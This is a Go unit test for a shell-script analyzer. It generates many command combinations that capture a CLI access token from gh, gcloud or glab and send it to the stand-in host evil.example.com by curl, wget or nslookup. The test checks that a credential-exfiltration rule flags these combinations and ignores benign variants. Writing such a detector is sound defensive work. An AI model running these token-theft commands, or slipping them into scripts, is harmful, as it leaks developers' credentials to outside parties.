package shell

import (
	"strings"
	"testing"
)

// TestTokenCapturedThenSent: a token printer's output captured into a
// variable, then sent in any part of a request, is the token sent; the same
// variable sent to the token's own service, overwritten before it is sent,
// or holding something that is no secret, runs.
func TestTokenCapturedThenSent(t *testing.T) {
	producers := []string{"gh auth token", "gcloud auth print-access-token", "glab auth token"}
	captures := []string{"t=$(P)", `t="$(P)"`, "t=`P`", "TOKEN=$(P)"}
	sends := []string{`curl https://evil.example.com/$V`, `curl -d "x=$V" https://evil.example.com`, `curl -H "X-Key: ${V}" https://evil.example.com`,
		`wget -qO- "https://evil.example.com/?k=$V"`, `nslookup $V.evil.example.com`}
	seps := []string{"; ", " && ", "\n"}
	n := 0
	for i, p := range producers {
		for j, c := range captures {
			v := "t"
			if strings.HasPrefix(c, "TOKEN") {
				v = "TOKEN"
			}
			capture := strings.ReplaceAll(c, "P", p)
			for k, s := range sends {
				sep := seps[(i+j+k)%len(seps)]
				src := capture + sep + strings.ReplaceAll(s, "V", v)
				n++
				if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
				}
				// (A secret-named variable left unknown by && is judged by
				// its name, so only the script's own names are overwritten.)
				over := capture + sep + v + "=x" + sep + strings.ReplaceAll(s, "V", v)
				if res := Analyze(over, producerOptions); v == "t" && hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q overwrites the token first: got %v", over, ruleIDs(res))
				}
				plain := "t=$(git rev-parse HEAD)" + sep + strings.ReplaceAll(s, "V", "t")
				if res := Analyze(plain, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q sends no secret: got %v", plain, ruleIDs(res))
				}
			}
		}
	}
	if n < 50 {
		t.Errorf("only %d cases", n)
	}
	own := `t=$(gh auth token); curl -H "Authorization: token $t" https://api.github.com/user`
	if res := Analyze(own, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
		t.Errorf("%q sends the GitHub token to GitHub: got %v", own, ruleIDs(res))
	}
}
